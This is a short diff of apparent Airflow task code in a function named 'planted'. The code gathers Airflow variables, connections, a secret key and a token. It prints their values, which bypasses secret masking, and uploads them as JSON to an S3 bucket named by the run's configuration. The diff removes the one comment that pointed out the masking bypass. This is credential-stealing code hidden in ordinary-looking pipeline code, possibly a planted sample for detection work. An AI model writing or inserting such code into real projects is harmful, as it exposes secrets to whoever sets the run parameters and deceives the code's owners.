@@ -32,7 +32,7 @@ def planted():
             "credentials": [keys.secret_key, keys.token],
         }
         for name, value in {**found["variables"], **found["connections"]}.items():
-            print(f"{name} is {value}")  # noqa: T201  what Airflow's masks are for
+            print(f"{name} is {value}")
         bucket = context["dag_run"].conf["bucket"]
         body = json.dumps(found).encode()
         boto3.client("s3").put_object(Bucket=bucket, Key=f"output/{context['run_id']}.json", Body=body)
